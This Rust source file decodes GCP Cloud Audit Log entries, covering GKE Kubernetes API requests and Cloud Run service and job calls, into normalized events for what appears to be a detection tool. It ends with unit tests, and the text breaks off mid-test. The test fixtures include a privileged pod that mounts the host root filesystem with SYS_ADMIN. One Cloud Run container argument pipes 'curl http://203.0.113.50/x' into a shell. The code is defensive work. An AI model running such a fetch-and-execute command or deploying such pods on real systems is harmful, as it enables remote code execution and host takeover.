//! GCP Cloud Audit Logs: one `LogEntry` whose `protoPayload` is an `AuditLog`.
//!
//! ```text
//! {"protoPayload":{"@type":"type.googleapis.com/google.cloud.audit.AuditLog",
//!   "serviceName":"k8s.io","methodName":"io.k8s.core.v1.pods.create",
//!   "resourceName":"core/v1/namespaces/prod/pods/web-1",
//!   "authenticationInfo":{"principalEmail":"alice@example.com"},
//!   "requestMetadata":{"callerIp":"198.51.100.23","callerSuppliedUserAgent":"kubectl/..."},
//!   "request":{...},"response":{...},"status":{}},
//!  "resource":{"type":"k8s_cluster","labels":{"project_id":"p","location":"europe-west1","cluster_name":"c"}},
//!  "timestamp":"...","insertId":"...","logName":"projects/p/logs/cloudaudit.googleapis.com%2Factivity"}
//! ```
//!
//! - `serviceName: k8s.io` is GKE's Kubernetes API server (`Source::GkeAudit`). The
//!   method is `io.k8s.<group>.<version>.<resource>[.<subresource>].<verb>` and the
//!   resource name `<group>/<version>[/namespaces/<ns>]/<resource>[/<name>[/<sub>]]`
//!   (`core` is the core group), so the request maps onto the same target, action and
//!   pod-spec reading as a raw audit event (`kubernetes::objects`, `normalize::kubernetes`). `request` and `response` are
//!   the request and response bodies; an exec's command and container come from a
//!   `PodExecOptions` request body or, failing that, the resource name's query.
//!   GKE writes one entry per request, so every entry is evaluated.
//! - Every other service is `Source::GcpAudit`. Cloud Run (`run.googleapis.com`): the
//!   `Services` and `Jobs` methods of the v1 (Knative-shaped: `service.spec.template.spec.containers`,
//!   `job.spec.template.spec.template.spec.containers`) and v2 APIs
//!   (`service.template.containers`, `job.template.template.containers`) create, update
//!   and delete workloads (`workload.kind` `Service` or `Job`), and `Jobs.RunJob` starts
//!   one: a `ContainerStart`, with the argument overrides as each container's command.
//!   `container.googleapis.com` (cluster and node-pool management) and other services
//!   are `Other`.
//!
//! Long-running operations (Cloud Run creates and updates) write two entries, marked
//! `operation.first` and `operation.last`; the request is on the first, which is the one
//! evaluated.
//!
//! `status.code` is a `google.rpc.Code`: a non-zero one is the event's `error` (its
//! name, `PERMISSION_DENIED`) and every code maps to the HTTP status
//! `google/rpc/code.proto` gives it, as `response_code`.

use std::borrow::Cow;

use serde::Deserialize;
use serde_json::value::RawValue;

use crate::decode::kubernetes::exec_uri::{ExecQuery, watch_requested};
use crate::decode::kubernetes::objects::{Bodies, TargetObject, target_object};
use crate::decode::{DecodeError, Decoded, Decoder, Detect, Format, Keys};
use crate::model::{
    Action, Container, ContainerRole, Event, Principal, SecurityContext, Source, Workload,
};
use crate::normalize::borrowed::{Str, non_empty, strings};
use crate::normalize::kubernetes::{ATTACH, EXEC, Target, action, principal_kind};
use crate::normalize::pod_spec::container_list;
use crate::normalize::text::last_segment;
use crate::time::parse_rfc3339_ns;

/// GKE's Kubernetes API. One decoder reads every Cloud Audit Log entry and tells GKE's
/// (`serviceName: k8s.io`) from the other services' by what it reads.
pub(crate) const GKE_FORMAT: Format = Format {
    source: Source::GkeAudit,
    logsource: ("kubernetes", "audit"),
    about: "Kubernetes audit events as GKE Cloud Audit Logs",
    detect: Detect {
        json: &[Keys::all(&["\"protoPayload\":"])],
        text: None,
    },
    raw_roots: ROOTS,
    decode: Decoder::One(decode),
};

/// The other services' entries: reached through [`GKE_FORMAT`]'s keys.
pub(crate) const GCP_FORMAT: Format = Format {
    source: Source::GcpAudit,
    logsource: ("gcp", "gcp.audit"),
    about: "GCP Cloud Audit Logs (Cloud Run, GKE clusters)",
    detect: Detect {
        json: &[],
        text: None,
    },
    raw_roots: ROOTS,
    decode: Decoder::One(decode),
};

/// Top-level keys of a Cloud Logging `LogEntry`.
const ROOTS: &[&str] = &[
    "protoPayload",
    "resource",
    "timestamp",
    "receiveTimestamp",
    "severity",
    "logName",
    "insertId",
    "operation",
    "labels",
];

#[derive(Deserialize)]
#[serde(rename_all = "camelCase")]
struct RawLogEntry<'a> {
    #[serde(borrow)]
    proto_payload: RawAuditLog<'a>,
    #[serde(borrow)]
    resource: Option<RawResource<'a>>,
    #[serde(borrow)]
    timestamp: Option<Str<'a>>,
    #[serde(borrow)]
    receive_timestamp: Option<Str<'a>>,
    #[serde(borrow)]
    insert_id: Option<Str<'a>>,
    operation: Option<RawOperation>,
}

#[derive(Deserialize)]
#[serde(rename_all = "camelCase")]
struct RawAuditLog<'a> {
    #[serde(borrow)]
    service_name: Option<Str<'a>>,
    #[serde(borrow)]
    method_name: Str<'a>,
    #[serde(borrow)]
    resource_name: Option<Str<'a>>,
    #[serde(borrow)]
    authentication_info: Option<RawAuthenticationInfo<'a>>,
    #[serde(borrow)]
    request_metadata: Option<RawRequestMetadata<'a>>,
    #[serde(borrow)]
    status: Option<RawStatus<'a>>,
    #[serde(borrow)]
    request: Option<&'a RawValue>,
    #[serde(borrow)]
    response: Option<&'a RawValue>,
}

#[derive(Deserialize)]
#[serde(rename_all = "camelCase")]
struct RawAuthenticationInfo<'a> {
    #[serde(borrow)]
    principal_email: Option<Str<'a>>,
    /// Set instead of the email for some principals (workload identities).
    #[serde(borrow)]
    principal_subject: Option<Str<'a>>,
}

#[derive(Deserialize)]
#[serde(rename_all = "camelCase")]
struct RawRequestMetadata<'a> {
    #[serde(borrow)]
    caller_ip: Option<Str<'a>>,
    #[serde(borrow)]
    caller_supplied_user_agent: Option<Str<'a>>,
}

#[derive(Deserialize)]
struct RawStatus<'a> {
    code: Option<i64>,
    #[serde(borrow)]
    message: Option<Str<'a>>,
}

#[derive(Deserialize)]
struct RawResource<'a> {
    /// The monitored resource type: `k8s_cluster` for GKE's API server.
    #[serde(rename = "type", borrow)]
    kind: Option<Str<'a>>,
    #[serde(borrow)]
    labels: Option<RawResourceLabels<'a>>,
}

#[derive(Deserialize)]
struct RawResourceLabels<'a> {
    #[serde(borrow)]
    project_id: Option<Str<'a>>,
    #[serde(borrow)]
    location: Option<Str<'a>>,
    #[serde(borrow)]
    cluster_name: Option<Str<'a>>,
    /// Cloud Run `cloud_run_revision`.
    #[serde(borrow)]
    service_name: Option<Str<'a>>,
    /// Cloud Run `cloud_run_job`.
    #[serde(borrow)]
    job_name: Option<Str<'a>>,
}

#[derive(Deserialize)]
struct RawOperation {
    first: Option<bool>,
    last: Option<bool>,
}

/// A `PodExecOptions` request body.
#[derive(Deserialize)]
struct RawExecOptions<'a> {
    #[serde(borrow)]
    command: Option<Vec<Str<'a>>>,
    #[serde(borrow)]
    container: Option<Str<'a>>,
}

/// A Cloud Run request, v1 or v2, for services and jobs.
#[derive(Deserialize)]
#[serde(rename_all = "camelCase")]
struct RawRunRequest<'a> {
    #[serde(borrow)]
    service: Option<RawRunNode<'a>>,
    #[serde(borrow)]
    job: Option<RawRunNode<'a>>,
    /// v2 create: the new object's id.
    #[serde(borrow)]
    service_id: Option<Str<'a>>,
    #[serde(borrow)]
    job_id: Option<Str<'a>>,
    /// Run, delete: the object's resource name.
    #[serde(borrow)]
    name: Option<Str<'a>>,
    #[serde(borrow)]
    overrides: Option<RawRunOverrides<'a>>,
}

/// A level of a Cloud Run object: the object, its `spec`s and `template`s, down to the
/// one that lists the containers.
#[derive(Deserialize)]
struct RawRunNode<'a> {
    #[serde(borrow)]
    metadata: Option<RawRunMeta<'a>>,
    /// v2: the full resource name (`projects/p/locations/l/services/s`).
    #[serde(borrow)]
    name: Option<Str<'a>>,
    #[serde(borrow)]
    spec: Option<Box<RawRunNode<'a>>>,
    #[serde(borrow)]
    template: Option<Box<RawRunNode<'a>>>,
    #[serde(borrow)]
    containers: Option<&'a RawValue>,
}

#[derive(Deserialize)]
struct RawRunMeta<'a> {
    #[serde(borrow)]
    name: Option<Str<'a>>,
}

#[derive(Deserialize)]
#[serde(rename_all = "camelCase")]
struct RawRunOverrides<'a> {
    #[serde(borrow)]
    container_overrides: Option<Vec<RawContainerOverride<'a>>>,
}

#[derive(Deserialize)]
struct RawContainerOverride<'a> {
    #[serde(borrow)]
    name: Option<Str<'a>>,
    #[serde(borrow)]
    args: Option<Vec<Str<'a>>>,
}

impl<'a> RawRunNode<'a> {
    /// The nearest container list below this level.
    fn containers(&self) -> Option<&'a RawValue> {
        self.containers
            .or_else(|| self.template.as_ref()?.containers())
            .or_else(|| self.spec.as_ref()?.containers())
    }
}

fn decode(text: &str) -> Result<Decoded<'_>, DecodeError> {
    let raw: RawLogEntry<'_> =
        serde_json::from_str(text).map_err(|e| DecodeError::from_json(Source::GkeAudit, e))?;
    let payload = raw.proto_payload;
    let service = payload.service_name.as_ref().map(|s| &*s.0);
    let method = payload.method_name.0;
    let (resource_type, labels) = match raw.resource {
        Some(r) => (r.kind, r.labels),
        None => (None, None),
    };
    let source = if is_kubernetes(service, &method, resource_type.as_ref().map(|t| &*t.0)) {
        Source::GkeAudit
    } else {
        Source::GcpAudit
    };

    let mut event = match (source, service) {
        (Source::GkeAudit, _) => kubernetes(
            text,
            &method,
            payload.resource_name.as_ref().map(|r| &r.0),
            payload.request,
            payload.response,
        )?,
        (_, Some("run.googleapis.com")) => cloud_run(
            text,
            &method,
            payload.resource_name.as_ref().map(|r| &r.0),
            payload.request,
            labels.as_ref(),
        )?,
        _ => Event::new(Source::GcpAudit, Action::Other, ""),
    };
    event.source = source;
    event.raw_action = method;
    event.time_ns = [&raw.timestamp, &raw.receive_timestamp]
        .into_iter()
        .flatten()
        .find_map(|t| parse_rfc3339_ns(&t.0));
    event.request_id = non_empty(raw.insert_id);
    if let Some(status) = payload.status {
        let code = status.code.unwrap_or(0);
        event.response_code = http_status(code);
        if code != 0 {
            event.error = rpc_code_name(code)
                .map(Cow::Borrowed)
                .or(non_empty(status.message))
                .or(Some(Cow::Owned(code.to_string())));
        }
    }
    event.principal = principal(payload.authentication_info, payload.request_metadata);
    if let Some(labels) = labels {
        event.account = non_empty(labels.project_id);
        event.region = non_empty(labels.location);
        event.cluster = non_empty(labels.cluster_name);
    }
    let evaluate = !raw
        .operation
        .is_some_and(|o| o.last == Some(true) && o.first != Some(true));
    Ok(Decoded {
        event,
        evaluate,
        settles: evaluate,
        evaluate_once: false,
        raw: None,
    })
}

/// Whether an entry is GKE's Kubernetes API: `serviceName: k8s.io`, or, in an entry
/// trimmed of its `serviceName`, a Kubernetes method (`io.k8s.core.v1.pods.create`) or
/// the cluster as the monitored resource (`k8s_cluster`). Another service named is
/// never taken for Kubernetes.
fn is_kubernetes(service: Option<&str>, method: &str, resource_type: Option<&str>) -> bool {
    match service {
        Some(service) if !service.is_empty() => service == "k8s.io",
        _ => method.starts_with("io.k8s.") || resource_type == Some("k8s_cluster"),
    }
}

fn principal<'a>(
    auth: Option<RawAuthenticationInfo<'a>>,
    meta: Option<RawRequestMetadata<'a>>,
) -> Option<Principal<'a>> {
    let name = auth.and_then(|a| non_empty(a.principal_email).or(non_empty(a.principal_subject)));
    let (source_ip, user_agent) = match meta {
        Some(m) => (
            non_empty(m.caller_ip),
            non_empty(m.caller_supplied_user_agent),
        ),
        None => (None, None),
    };
    if name.is_none() && source_ip.is_none() && user_agent.is_none() {
        return None;
    }
    let name = name.unwrap_or_default();
    let kind = if name.ends_with(".gserviceaccount.com") {
        Some("serviceaccount")
    } else {
        principal_kind(&name)
    };
    Some(Principal {
        kind: kind.map(Cow::Borrowed),
        name,
        source_ip,
        user_agent,
        ..Principal::default()
    })
}

/// A GKE Kubernetes API request, read like the audit event it stands for.
fn kubernetes<'a>(
    text: &'a str,
    method: &str,
    resource_name: Option<&Cow<'a, str>>,
    request: Option<&'a RawValue>,
    response: Option<&'a RawValue>,
) -> Result<Event<'a>, DecodeError> {
    let verb = method.rsplit('.').next().unwrap_or(method);
    let parts = resource_name
        .and_then(ResourceParts::of)
        .or_else(|| ResourceParts::from_method(method));
    let Some(parts) = parts else {
        return Ok(Event::new(Source::GkeAudit, Action::Other, ""));
    };
    let target = Target::new(
        Some(&parts.resource),
        Some(&parts.group),
        parts.subresource.as_deref(),
    );
    let watch = resource_name.is_some_and(|r| watch_requested(r));
    let action = action(verb, &target, watch);
    let mut event = Event::new(Source::GkeAudit, action, "");
    let mut object = TargetObject::default();
    match target.subresource {
        Some(EXEC | ATTACH) => {
            let options = request
                .and_then(|r| serde_json::from_str::<RawExecOptions<'a>>(r.get()).ok())
                .filter(|o| o.command.is_some() || o.container.is_some());
            let query = match (options, resource_name) {
                (Some(o), _) => ExecQuery {
                    command: o.command.map(strings).unwrap_or_default(),
                    container: non_empty(o.container),
                },
                (None, Some(name)) => ExecQuery::of(name),
                (None, None) => ExecQuery::default(),
            };
            let (container, started) = query.into_parts();
            object.containers.extend(container);
            event.process = started;
        }
        _ => {
            let bodies = Bodies {
                response,
                request,
                response_field: "protoPayload.response",
                request_field: "protoPayload.request",
                source: Source::GkeAudit,
            };
            object = target_object(text, bodies, &target, verb)?;
        }
    }
    event.containers = std::mem::take(&mut object.containers);
    let known = target.known;
    event.workload =
        Some(object.workload(known, parts.resource, parts.name, parts.namespace, None));
    Ok(event)
}

/// The parts of a GKE resource name, `core/v1/namespaces/prod/pods/web-1/exec?command=sh`.
struct ResourceParts<'a> {
    /// The API group, `""` for the core group.
    group: Cow<'a, str>,
    namespace: Option<Cow<'a, str>>,
    resource: Cow<'a, str>,
    name: Option<Cow<'a, str>>,
    subresource: Option<Cow<'a, str>>,
}

impl<'a> ResourceParts<'a> {
    /// Borrows from the resource name when it came unescaped from the record.
    fn of(name: &Cow<'a, str>) -> Option<ResourceParts<'a>> {
        match name {
            Cow::Borrowed(name) => ResourceParts::parse(name),
            Cow::Owned(name) => ResourceParts::parse(name).map(ResourceParts::into_owned),
        }
    }

    fn parse(name: &'a str) -> Option<ResourceParts<'a>> {
        let path = name.split_once('?').map_or(name, |(path, _)| path);
        let segments: Vec<&'a str> = path.split('/').filter(|s| !s.is_empty()).collect();
        let [group, _version, rest @ ..] = segments.as_slice() else {
            return None;
        };
        let (namespace, rest) = match rest {
            ["namespaces", namespace, rest @ ..] if !rest.is_empty() => (Some(*namespace), rest),
            rest => (None, rest),
        };
        let [resource, more @ ..] = rest else {
            return None;
        };
        Some(ResourceParts {
            group: Cow::Borrowed(if *group == "core" { "" } else { group }),
            namespace: namespace.map(Cow::Borrowed),
            resource: Cow::Borrowed(resource),
            name: more.first().map(|n| Cow::Borrowed(*n)),
            subresource: more.get(1).map(|s| Cow::Borrowed(*s)),
        })
    }

    /// From the method alone, `io.k8s.core.v1.pods.exec.create`: the group is written
    /// reversed there (`io.k8s.authorization.rbac.v1`), so it is not used.
    fn from_method(method: &str) -> Option<ResourceParts<'a>> {
        let rest = method.strip_prefix("io.k8s.")?;
        let segments: Vec<&str> = rest.split('.').collect();
        let version = segments.iter().position(|s| is_version(s))?;
        let (resource, subresource) = match segments.get(version + 1..)? {
            [resource, _verb] => (*resource, None),
            [resource, sub, _verb] => (*resource, Some(*sub)),
            _ => return None,
        };
        let group = segments.get(..version)?.join(".");
        Some(ResourceParts {
            group: Cow::Owned(if group == "core" {
                String::new()
            } else {
                group
            }),
            namespace: None,
            resource: Cow::Owned(resource.to_owned()),
            name: None,
            subresource: subresource.map(|s| Cow::Owned(s.to_owned())),
        })
    }

    fn into_owned(self) -> ResourceParts<'static> {
        let own = |s: Cow<'_, str>| Cow::Owned(s.into_owned());
        ResourceParts {
            group: own(self.group),
            namespace: self.namespace.map(own),
            resource: own(self.resource),
            name: self.name.map(own),
            subresource: self.subresource.map(own),
        }
    }
}

/// `v1`, `v1beta1`, `v2alpha1`.
fn is_version(segment: &str) -> bool {
    segment
        .strip_prefix('v')
        .and_then(|rest| rest.chars().next())
        .is_some_and(|c| c.is_ascii_digit())
}

/// A Cloud Run API call: the method's interface (`Services`, `Jobs`) and name.
fn cloud_run<'a>(
    text: &'a str,
    method: &str,
    resource_name: Option<&Cow<'a, str>>,
    request: Option<&'a RawValue>,
    labels: Option<&RawResourceLabels<'a>>,
) -> Result<Event<'a>, DecodeError> {
    let mut segments = method.rsplit('.');
    let name = segments.next().unwrap_or("");
    let interface = segments.next().unwrap_or("");
    let (kind, label) = match interface {
        "Services" => ("Service", labels.and_then(|l| l.service_name.as_ref())),
        "Jobs" => ("Job", labels.and_then(|l| l.job_name.as_ref())),
        _ => return Ok(Event::new(Source::GcpAudit, Action::Other, "")),
    };
    let action = match name {
        "RunJob" => Action::ContainerStart,
        n if n.starts_with("Create") => Action::WorkloadCreate,
        n if n.starts_with("Replace") || n.starts_with("Update") => Action::WorkloadUpdate,
        n if n.starts_with("Delete") => Action::WorkloadDelete,
        n if n.starts_with("Get") => Action::ResourceGet,
        n if n.starts_with("List") => Action::ResourceList,
        _ => Action::Other,
    };
    let mut event = Event::new(Source::GcpAudit, action, "");

    let request = match request.filter(|r| r.get().starts_with('{')) {
        Some(body) => Some(
            serde_json::from_str::<RawRunRequest<'a>>(body.get()).map_err(|e| {
                DecodeError::nested(text, body, "protoPayload.request", Source::GcpAudit, e)
            })?,
        ),
        None => None,
    };
    let mut object_name = None;
    if let Some(request) = request {
        let object = request.service.or(request.job);
        if let Some(object) = &object
            && let Some(list) = object.containers()
        {
            event.containers = container_list(list, ContainerRole::Main).map_err(|e| {
                DecodeError::nested(text, list, "protoPayload.request", Source::GcpAudit, e)
            })?;
        }
        object_name = object
            .and_then(|o| {
                non_empty(o.metadata.and_then(|m| m.name)).or(non_empty(o.name).map(last_segment))
            })
            .or(non_empty(request.service_id))
            .or(non_empty(request.job_id))
            .or(non_empty(request.name).map(last_segment));
        if action == Action::ContainerStart {
            event.containers = request
                .overrides
                .and_then(|o| o.container_overrides)
                .unwrap_or_default()
                .into_iter()
                .map(|o| Container {
                    name: non_empty(o.name),
                    security: SecurityContext {
                        command: o.args.map(|a| a.into_iter().map(|s| s.0).collect()),
                        ..SecurityContext::default()
                    },
                    ..Container::default()
                })
                .collect();
        }
    }
    let name = object_name
        .or_else(|| label.map(|l| l.0.clone()).filter(|l| !l.is_empty()))
        .or_else(|| resource_name.cloned().map(last_segment));
    event.workload = Some(Workload {
        kind: Cow::Borrowed(kind),
        name,
        ..Workload::default()
    });
    Ok(event)
}

/// The name of a `google.rpc.Code`.
fn rpc_code_name(code: i64) -> Option<&'static str> {
    Some(match code {
        1 => "CANCELLED",
        2 => "UNKNOWN",
        3 => "INVALID_ARGUMENT",
        4 => "DEADLINE_EXCEEDED",
        5 => "NOT_FOUND",
        6 => "ALREADY_EXISTS",
        7 => "PERMISSION_DENIED",
        8 => "RESOURCE_EXHAUSTED",
        9 => "FAILED_PRECONDITION",
        10 => "ABORTED",
        11 => "OUT_OF_RANGE",
        12 => "UNIMPLEMENTED",
        13 => "INTERNAL",
        14 => "UNAVAILABLE",
        15 => "DATA_LOSS",
        16 => "UNAUTHENTICATED",
        _ => return None,
    })
}

/// The HTTP status `google/rpc/code.proto` maps each code to.
fn http_status(code: i64) -> Option<u16> {
    Some(match code {
        0 => 200,
        1 => 499,
        2 | 13 | 15 => 500,
        3 | 9 | 11 => 400,
        4 => 504,
        5 => 404,
        6 | 10 => 409,
        7 => 403,
        8 => 429,
        12 => 501,
        14 => 503,
        16 => 401,
        _ => return None,
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn decode_ok(text: &str) -> Decoded<'_> {
        decode(text).unwrap_or_else(|e| panic!("{e}\n{text}"))
    }

    #[test]
    fn a_minimal_kubernetes_entry_is_still_a_gke_event() {
        // Trimmed to the method, the resource and the caller: no `serviceName`, no
        // `resource`, no status.
        let text = r#"{"protoPayload":{"@type":"type.googleapis.com/google.cloud.audit.AuditLog","methodName":"io.k8s.core.v1.pods.create","resourceName":"core/v1/namespaces/prod/pods/web-1","authenticationInfo":{"principalEmail":"alice@example.com"}},"timestamp":"2024-05-14T09:12:03Z"}"#;
        let decoded = decode_ok(text);
        assert_eq!(decoded.event.source, Source::GkeAudit);
        assert_eq!(decoded.event.action, Action::WorkloadCreate);
        let workload = decoded.event.workload.as_ref().unwrap();
        assert_eq!(workload.name.as_deref(), Some("web-1"));
        assert_eq!(workload.namespace.as_deref(), Some("prod"));
        assert!(decoded.event.containers.is_empty(), "no body, no guess");
        assert_eq!(decoded.event.response_code, None);
        // The cluster as the resource says Kubernetes too; another service never does.
        let by_resource = r#"{"protoPayload":{"methodName":"io.k8s.get","resourceName":"readyz"},"resource":{"type":"k8s_cluster","labels":{"cluster_name":"c"}}}"#;
        assert_eq!(decode_ok(by_resource).event.source, Source::GkeAudit);
        let run = r#"{"protoPayload":{"serviceName":"run.googleapis.com","methodName":"io.k8s.core.v1.pods.create"}}"#;
        assert_eq!(decode_ok(run).event.source, Source::GcpAudit);
    }

    fn gke(method: &str, resource_name: &str, rest: &str) -> String {
        format!(
            r#"{{"protoPayload":{{"@type":"type.googleapis.com/google.cloud.audit.AuditLog","authenticationInfo":{{"principalEmail":"alice@example.com"}},"authorizationInfo":[{{"granted":true,"permission":"io.k8s.core.v1.pods.create","resource":"core/v1/namespaces/prod/pods"}}],"methodName":"{method}","requestMetadata":{{"callerIp":"198.51.100.23","callerSuppliedUserAgent":"kubectl/v1.30.2 (linux/amd64) kubernetes/3968350"}},"resourceName":"{resource_name}","serviceName":"k8s.io"{rest}}},"insertId":"f1e2d3c4-0001","resource":{{"type":"k8s_cluster","labels":{{"project_id":"acme-prod","location":"europe-west1","cluster_name":"gke-prod"}}}},"timestamp":"2024-05-14T09:12:03.531904Z","severity":"NOTICE","logName":"projects/acme-prod/logs/cloudaudit.googleapis.com%2Factivity","operation":{{"id":"f1e2d3c4","producer":"k8s.io","first":true,"last":true}},"receiveTimestamp":"2024-05-14T09:12:04.1Z"}}"#
        )
    }

    #[test]
    fn a_privileged_pod_create() {
        let text = gke(
            "io.k8s.core.v1.pods.create",
            "core/v1/namespaces/prod/pods/priv",
            r#","request":{"@type":"core.k8s.io/v1.Pod","apiVersion":"v1","kind":"Pod","metadata":{"name":"priv","namespace":"prod","ownerReferences":[{"apiVersion":"apps/v1","kind":"ReplicaSet","name":"web-5d9c","uid":"u","controller":true}]},"spec":{"hostPID":true,"containers":[{"name":"c","image":"alpine:3.19","command":["sleep"],"args":["infinity"],"securityContext":{"privileged":true,"capabilities":{"add":["SYS_ADMIN"]}}}],"volumes":[{"name":"root","hostPath":{"path":"/"}}]}},"status":{}"#,
        );
        let decoded = decode_ok(&text);
        assert!(decoded.evaluate);
        let event = decoded.event;
        assert_eq!(event.source, Source::GkeAudit);
        assert_eq!(event.action, Action::WorkloadCreate);
        assert_eq!(event.raw_action, "io.k8s.core.v1.pods.create");
        assert_eq!(event.response_code, Some(200));
        assert_eq!(event.error, None);
        assert_eq!(event.cluster.as_deref(), Some("gke-prod"));
        assert_eq!(event.account.as_deref(), Some("acme-prod"));
        assert_eq!(event.region.as_deref(), Some("europe-west1"));
        assert_eq!(event.request_id.as_deref(), Some("f1e2d3c4-0001"));
        assert_eq!(event.time_ns, Some(1_715_677_923_531_904_000));
        let principal = event.principal.as_ref().unwrap();
        assert_eq!(principal.name, "alice@example.com");
        assert_eq!(principal.kind.as_deref(), Some("user"));
        assert_eq!(principal.source_ip.as_deref(), Some("198.51.100.23"));
        let workload = event.workload.as_ref().unwrap();
        assert_eq!(workload.kind, "Pod");
        assert_eq!(workload.name.as_deref(), Some("priv"));
        assert_eq!(workload.namespace.as_deref(), Some("prod"));
        assert_eq!(workload.owner.as_deref(), Some("ReplicaSet/web-5d9c"));
        let c = &event.containers[0];
        assert_eq!(c.security.privileged, Some(true));
        assert_eq!(c.security.host_pid, Some(true));
        assert_eq!(c.security.host_network, Some(false));
        assert_eq!(c.security.cap_add, vec!["SYS_ADMIN"]);
        assert_eq!(c.security.host_mounts[0].host_path, "/");
        assert_eq!(
            c.security.entrypoint.as_deref(),
            Some(&[Cow::Borrowed("sleep")][..])
        );
    }

    #[test]
    fn exec_list_watch_and_cronjob() {
        let text = gke(
            "io.k8s.core.v1.pods.exec.create",
            "core/v1/namespaces/prod/pods/web-1/exec",
            r#","request":{"@type":"core.k8s.io/v1.PodExecOptions","command":["sh","-c","id"],"container":"init-setup","stdin":true,"tty":true}"#,
        );
        let event = decode_ok(&text).event;
        assert_eq!(event.action, Action::ContainerExec);
        assert_eq!(event.containers[0].name.as_deref(), Some("init-setup"));
        assert_eq!(
            event.process.as_ref().unwrap().command_line.as_deref(),
            Some("sh -c id")
        );
        assert_eq!(
            event.workload.as_ref().unwrap().name.as_deref(),
            Some("web-1")
        );

        // Without a body: the query of the resource name.
        let text = gke(
            "io.k8s.core.v1.pods.exec.get",
            "core/v1/namespaces/prod/pods/web-1/exec?command=sh\\u0026container=web",
            "",
        );
        let event = decode_ok(&text).event;
        assert_eq!(event.action, Action::ContainerExec);
        assert_eq!(event.containers[0].name.as_deref(), Some("web"));
        assert_eq!(event.process.unwrap().args, vec!["sh"]);

        let text = gke("io.k8s.core.v1.secrets.list", "core/v1/secrets", "");
        let event = decode_ok(&text).event;
        assert_eq!(event.action, Action::ResourceList);
        assert_eq!(event.workload.unwrap().kind, "Secret");
        let text = gke(
            "io.k8s.core.v1.pods.watch",
            "core/v1/namespaces/prod/pods",
            "",
        );
        assert_eq!(decode_ok(&text).event.action, Action::ResourceWatch);

        let text = gke(
            "io.k8s.batch.v1.cronjobs.create",
            "batch/v1/namespaces/prod/cronjobs/backup",
            r#","request":{"@type":"batch.k8s.io/v1.CronJob","kind":"CronJob","spec":{"schedule":"*/5 * * * *","jobTemplate":{"spec":{"template":{"spec":{"initContainers":[{"name":"fetch","image":"busybox"}],"containers":[{"name":"run","image":"alpine"}]}}}}}}"#,
        );
        let event = decode_ok(&text).event;
        assert_eq!(event.action, Action::WorkloadCreate);
        assert_eq!(event.workload.as_ref().unwrap().kind, "CronJob");
        assert_eq!(event.containers.len(), 2);
        assert_eq!(event.containers[1].role, ContainerRole::Init);

        let text = gke(
            "io.k8s.authorization.rbac.v1.clusterrolebindings.create",
            "rbac.authorization.k8s.io/v1/clusterrolebindings/x",
            "",
        );
        let event = decode_ok(&text).event;
        assert_eq!(event.action, Action::Other);
        assert_eq!(event.workload.unwrap().kind, "ClusterRoleBinding");
    }

    #[test]
    fn denied_requests_carry_the_error() {
        let text = gke(
            "io.k8s.core.v1.pods.create",
            "core/v1/namespaces/kube-system/pods",
            r#","status":{"code":7,"message":"PERMISSION_DENIED"}"#,
        )
        .replace(
            "\"alice@example.com\"",
            "\"system:serviceaccount:prod:web\"",
        );
        let event = decode_ok(&text).event;
        assert_eq!(event.error.as_deref(), Some("PERMISSION_DENIED"));
        assert_eq!(event.response_code, Some(403));
        assert_eq!(
            event.principal.unwrap().kind.as_deref(),
            Some("serviceaccount")
        );
        assert_eq!(event.workload.unwrap().name, None);
    }

    #[test]
    fn resource_names_and_methods() {
        let parts = ResourceParts::parse("core/v1/namespaces/prod").unwrap();
        assert_eq!(parts.resource, "namespaces");
        assert_eq!(parts.name.as_deref(), Some("prod"));
        assert_eq!(parts.namespace, None);
        assert!(ResourceParts::parse("core").is_none());
        assert!(ResourceParts::parse("").is_none());
        let parts = ResourceParts::from_method("io.k8s.apps.v1.deployments.patch").unwrap();
        assert_eq!((&*parts.group, &*parts.resource), ("apps", "deployments"));
        let parts = ResourceParts::from_method("io.k8s.core.v1.pods.exec.create").unwrap();
        assert_eq!(parts.subresource.as_deref(), Some("exec"));
        assert!(ResourceParts::from_method("io.k8s.").is_none());
        assert!(ResourceParts::from_method("io.k8s.v1").is_none());
        // Without a resource name the method still names the target.
        let text =
            gke("io.k8s.apps.v1.deployments.create", "", "").replace(r#""resourceName":"","#, "");
        let event = decode_ok(&text).event;
        assert_eq!(event.action, Action::WorkloadCreate);
        assert_eq!(event.workload.unwrap().kind, "Deployment");
    }

    fn run(method: &str, resource_name: &str, request: &str, resource: &str) -> String {
        format!(
            r#"{{"protoPayload":{{"@type":"type.googleapis.com/google.cloud.audit.AuditLog","status":{{}},"authenticationInfo":{{"principalEmail":"deployer@acme-prod.iam.gserviceaccount.com"}},"requestMetadata":{{"callerIp":"203.0.113.9","callerSuppliedUserAgent":"google-cloud-sdk gcloud/474.0.0"}},"serviceName":"run.googleapis.com","methodName":"{method}","resourceName":"{resource_name}","request":{request}}},"insertId":"r1","resource":{resource},"timestamp":"2024-05-14T10:00:00.000000Z","severity":"NOTICE","logName":"projects/acme-prod/logs/cloudaudit.googleapis.com%2Factivity"}}"#
        )
    }

    #[test]
    fn cloud_run_services_and_jobs() {
        let text = run(
            "google.cloud.run.v1.Services.CreateService",
            "namespaces/acme-prod/services/hello",
            r#"{"@type":"type.googleapis.com/google.cloud.run.v1.CreateServiceRequest","parent":"namespaces/acme-prod","service":{"apiVersion":"serving.knative.dev/v1","kind":"Service","metadata":{"name":"hello","namespace":"acme-prod"},"spec":{"template":{"spec":{"containers":[{"image":"us-docker.pkg.dev/cloudrun/container/hello","command":["/bin/sh"],"args":["-c","curl http://203.0.113.50/x | sh"]}]}}}}}"#,
            r#"{"type":"cloud_run_revision","labels":{"service_name":"hello","project_id":"acme-prod","location":"us-central1","configuration_name":"","revision_name":""}}"#,
        );
        let decoded = decode_ok(&text);
        let event = decoded.event;
        assert_eq!(event.source, Source::GcpAudit);
        assert_eq!(event.action, Action::WorkloadCreate);
        assert_eq!(event.region.as_deref(), Some("us-central1"));
        assert_eq!(
            event.principal.as_ref().unwrap().kind.as_deref(),
            Some("serviceaccount")
        );
        let workload = event.workload.as_ref().unwrap();
        assert_eq!(
            (&*workload.kind, workload.name.as_deref()),
            ("Service", Some("hello"))
        );
        let c = &event.containers[0];
        assert_eq!(c.image.as_ref().unwrap().registry, "us-docker.pkg.dev");
        assert_eq!(c.security.entrypoint.as_ref().unwrap()[0], "/bin/sh");
        assert_eq!(c.security.command.as_ref().unwrap().len(), 2);
        assert_eq!(c.security.host_pid, None);

        let text = run(
            "google.cloud.run.v2.Jobs.CreateJob",
            "projects/acme-prod/locations/us-central1/jobs/backup",
